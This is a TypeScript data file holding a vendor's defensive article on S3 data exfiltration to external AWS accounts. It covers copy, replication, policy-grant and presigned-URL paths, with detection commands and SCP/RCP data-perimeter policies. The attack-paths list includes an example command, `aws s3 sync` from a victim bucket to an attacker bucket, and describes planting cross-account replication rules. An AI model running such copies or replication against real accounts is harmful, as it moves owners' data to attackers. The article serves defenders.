import type { ArticleSource } from '../library-types.ts';

export const article: ArticleSource = {
  id: 's3-exfiltration-external-accounts',
  title: 'S3 Exfiltration to External AWS Accounts: Copies, Replication and Data Perimeters',
  description:
    'Attackers rarely need a public bucket. They copy or replicate your S3 data into an account they control, with signed requests. How the paths work and how data perimeters close them.',
  category: 'Data Protection',
  severity: 'High',
  mitreAttack: 'T1537 Transfer Data to Cloud Account',
  audience: 'AWS security engineers, cloud architects, security leaders',
  kryonSolution: ['Kryon Core', 'Kryon Graph', 'Kryon Defend'],
  publishedDate: '2026-03-04',
  tags: ['S3', 'Exfiltration', 'Data Perimeter', 'SCP', 'RCP', 'Replication'],
  body: [
    {
      kind: 'paragraph',
      text: 'Account-level S3 Block Public Access has made the classic open bucket much rarer. The exfiltration routes that remain are quieter: every request is signed, nothing is public, and the data lands in an AWS account the attacker controls. From the network it looks like ordinary S3 traffic on the AWS backbone, and from IAM it looks like your own roles doing their jobs.',
    },
    {
      kind: 'paragraph',
      text: 'These techniques map to T1537 Transfer Data to Cloud Account, and they matter because the usual controls do not see them. Egress filtering never inspects a server-side copy, DLP on endpoints never sees the bytes, and a bucket can pass every public-access check while it replicates each new object to a stranger.',
    },
    { kind: 'heading', text: 'How the exfiltration paths work' },
    {
      kind: 'list',
      items: [
        'Server-side copy. With stolen credentials, `aws s3 sync s3://victim-data s3://attacker-bucket` issues `CopyObject` requests. S3 authorizes `s3:GetObject` on your bucket and `s3:PutObject` on the destination; an identity policy with `s3:PutObject` on `"Resource": "*"` and an attacker bucket policy that admits your role are all it takes.',
        'Replication. A rule added with `PutBucketReplication` (IAM action `s3:PutReplicationConfiguration`) continuously copies new objects to a bucket in another account. It survives credential rotation because the replication role, not the attacker, does the work.',
        'Resource policy grants. A bucket policy, access point policy or, on buckets with ACLs enabled, an ACL that grants an external account read access turns a one-off compromise into standing access.',
        'Presigned URLs. A URL signed with your credentials lets anyone download the object until it expires, up to seven days for IAM user keys, from any network.',
        'Service-assisted copies such as S3 Batch Operations jobs and AWS DataSync tasks that target a location outside your organization.',
      ],
    },
    { kind: 'heading', text: 'Finding exposure and activity' },
    {
      kind: 'paragraph',
      text: 'IAM Access Analyzer with your organization as the zone of trust reports buckets and access points that grant access to external accounts through bucket policies, access point policies and ACLs. Replication configuration is not an access grant, so review it separately.',
    },
    {
      kind: 'code',
      language: 'bash',
      caption: 'External-access findings and replication destinations',
      code: `# Buckets shared outside the organization (run in the delegated administrator account)
aws accessanalyzer list-findings --analyzer-arn "$ORG_ANALYZER_ARN" \\
  --filter '{"resourceType": {"eq": ["AWS::S3::Bucket"]}, "status": {"eq": ["ACTIVE"]}}' \\
  --query 'findings[].[resource,principal,action]'

# Replication destinations: every destination bucket must be one you own
for b in $(aws s3api list-buckets --query 'Buckets[].Name' --output text); do
  aws s3api get-bucket-replication --bucket "$b" \\
    --query 'ReplicationConfiguration.Rules[].[Status,Destination.Bucket,Destination.Account]' \\
    --output text 2>/dev/null | sed "s|^|$b\\t|"
done`,
    },
    {
      kind: 'paragraph',
      text: 'AWS Config adds continuous checks: `s3-bucket-policy-grantee-check` compares bucket policy principals with an allow-list of accounts, and Security Hub CSPM control S3.6 flags bucket policies that grant other accounts administrative actions such as `s3:PutBucketPolicy` or `s3:PutObjectAcl`. For activity, alert on the CloudTrail management events `PutBucketPolicy`, `PutBucketReplication`, `PutBucketAcl`, `PutAccessPointPolicy` and `DeleteBucketPublicAccessBlock`, and enable S3 data events on the buckets Amazon Macie identifies as holding sensitive data. GuardDuty S3 Protection analyses those data-plane calls and raises `Exfiltration:S3/AnomalousBehavior`, `Exfiltration:S3/MaliciousIPCaller` and `Discovery:S3/AnomalousBehavior` findings.',
    },
    { kind: 'heading', text: 'Closing the paths with data perimeters' },
    {
      kind: 'paragraph',
      text: 'A data perimeter answers three questions for every request: is the principal mine, is the resource mine, and does the request come from where I expect. AWS Organizations gives you one policy type for each side. Service control policies limit your principals, so they enforce the resource perimeter; resource control policies limit your resources, so they enforce the identity perimeter.',
    },
    { kind: 'subheading', text: 'Resource perimeter: your identities write only to your buckets' },
    {
      kind: 'paragraph',
      text: 'The SCP below denies object writes and replication to any bucket whose owning account is outside your organization, using `aws:ResourceOrgID`, with a principal tag as the documented exception. A second statement reserves the configuration calls that create standing sharing for the storage pipeline role.',
    },
    {
      kind: 'code',
      language: 'json',
      caption: 'SCP: resource perimeter for S3 writes and sharing configuration',
      code: `{
  "Version": "2012-10-17",
  "Statement": [
    {
      "Sid": "DenyWritesToBucketsOutsideOrg",
      "Effect": "Deny",
      "Action": ["s3:PutObject", "s3:PutObjectAcl", "s3:ReplicateObject", "s3:ReplicateTags"],
      "Resource": "*",
      "Condition": {
        "StringNotEqualsIfExists": {
          "aws:ResourceOrgID": "o-exampleorgid",
          "aws:PrincipalTag/data-perimeter-exception": "true"
        }
      }
    },
    {
      "Sid": "ReserveSharingConfiguration",
      "Effect": "Deny",
      "Action": [
        "s3:PutReplicationConfiguration",
        "s3:PutBucketPolicy",
        "s3:PutBucketAcl",
        "s3:PutAccessPointPolicy"
      ],
      "Resource": "*",
      "Condition": {
        "ArnNotLike": { "aws:PrincipalArn": "arn:aws:iam::*:role/storage-platform-pipeline" }
      }
    }
  ]
}`,
    },
    { kind: 'subheading', text: 'Identity perimeter: only your principals read your buckets' },
    {
      kind: 'paragraph',
      text: 'An RCP applies to every bucket in the accounts it is attached to, whatever an individual bucket policy says. This one denies S3 access to principals outside the organization unless the caller is an AWS service acting on your behalf, with a resource tag for buckets that must stay externally readable, such as a public website origin.',
    },
    {
      kind: 'code',
      language: 'json',
      caption: 'RCP: identity perimeter for S3',
      code: `{
  "Version": "2012-10-17",
  "Statement": [
    {
      "Sid": "EnforceOrgIdentityPerimeter",
      "Effect": "Deny",
      "Principal": "*",
      "Action": "s3:*",
      "Resource": "*",
      "Condition": {
        "StringNotEqualsIfExists": {
          "aws:PrincipalOrgID": "o-exampleorgid",
          "aws:ResourceTag/dp-exclude-identity": "true"
        },
        "BoolIfExists": { "aws:PrincipalIsAWSService": "false" }
      }
    }
  ]
}`,
    },
    { kind: 'subheading', text: 'Network perimeter: credentials work only from expected networks' },
    {
      kind: 'paragraph',
      text: 'Neither perimeter stops an attacker who uses your own credentials to read your bucket from their laptop, and presigned URLs are signed by your principals, so they pass the identity check. For sensitive buckets, add bucket policy conditions on `aws:SourceVpce` or `aws:SourceIp` so requests must come through your VPC endpoints or egress ranges, and limit presigned URL lifetime with `s3:signatureAge`.',
    },
    {
      kind: 'callout',
      tone: 'warning',
      title: 'Roll out perimeters in stages',
      text: 'Resource perimeters break legitimate access to buckets owned by AWS or by partners, for example package repositories, service-managed buckets and vendor data feeds. Start with the write actions shown above, attach the policies to a test OU, review CloudTrail `AccessDenied` errors for a few weeks, and add narrowly scoped exceptions. The AWS data perimeter policy examples list the AWS-owned resources that commonly need them.',
    },
    { kind: 'heading', text: 'How Kryon helps' },
    {
      kind: 'paragraph',
      text: 'Kryon Core evaluates bucket policies, access points, ACL settings and replication rules across every account in your AWS Organization, flagging any grant or destination outside the organization, and checks that your SCPs and RCPs are attached to every OU that holds sensitive data. Kryon Graph shows the attack paths that end in exfiltration: from an exposed workload to a role with `s3:GetObject` on a sensitive bucket and unrestricted `s3:PutObject`, labelled T1537 on the graph. Kryon Defend, currently in beta, turns new replication rules, external bucket policy grants and anomalous copy activity into real-time signals.',
    },
    { kind: 'heading', text: 'Checklist' },
    {
      kind: 'list',
      items: [
        'Enable an organization-level IAM Access Analyzer and resolve every active external S3 finding.',
        'Review replication destinations on every bucket and remove rules that point outside your organization.',
        'Remove `s3:PutObject` on `"Resource": "*"` from workload roles; scope writes to named buckets.',
        'Attach an SCP resource perimeter using `aws:ResourceOrgID` for S3 writes and replication.',
        'Attach an RCP identity perimeter using `aws:PrincipalOrgID` and `aws:PrincipalIsAWSService`.',
        'Restrict sensitive buckets to your VPC endpoints or egress IP ranges and cap presigned URL age.',
        'Alert on `PutBucketPolicy`, `PutBucketReplication`, `PutBucketAcl` and `PutAccessPointPolicy`.',
        'Enable S3 data events and GuardDuty S3 Protection on buckets Macie marks as sensitive.',
      ],
    },
  ],
};
